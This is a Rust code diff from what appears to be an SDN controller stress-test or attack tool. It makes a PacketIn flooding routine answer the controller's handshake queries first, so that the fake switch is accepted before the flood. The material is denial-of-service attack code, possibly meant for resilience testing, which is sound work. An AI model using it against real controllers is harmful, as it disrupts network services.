@@ -82,6 +82,7 @@ pub fn flood_until(address: SocketAddr, over: &AtomicBool) -> io::Result<()> {
     let mut stream = TcpStream::connect(address)?;
     stream.set_write_timeout(Some(Duration::from_millis(200)))?;
     stream.write_all(&before(SwitchAttack::PacketInFlood))?;
+    answer_questions(&mut stream)?;
     let (bytes, mut room) = (packet_in().repeat(BATCH), vec![0; 64 << 10]);
     let mut written = 0;
     while !over.load(Ordering::Relaxed) {
@@ -95,6 +96,22 @@ pub fn flood_until(address: SocketAddr, over: &AtomicBool) -> io::Result<()> {
         }
     }
     Ok(())
+}
+
+/// Answers what the node asks of a new switch, until it asks nothing for a while. Before, apps do not hear of the switch.
+fn answer_questions(stream: &mut TcpStream) -> io::Result<()> {
+    stream.set_read_timeout(Some(Duration::from_millis(200)))?;
+    let mut room = [0; 4096];
+    loop {
+        match stream.read(&mut room) {
+            Ok(0) => return Err(ErrorKind::UnexpectedEof.into()),
+            Ok(count) => stream.write_all(&answers(&room[..count]))?,
+            Err(error) if matches!(error.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => {
+                return Ok(());
+            }
+            Err(error) => return Err(error),
+        }
+    }
 }
 
 /// Writes the same again and again, and reads what comes, unless it is one that does not read.
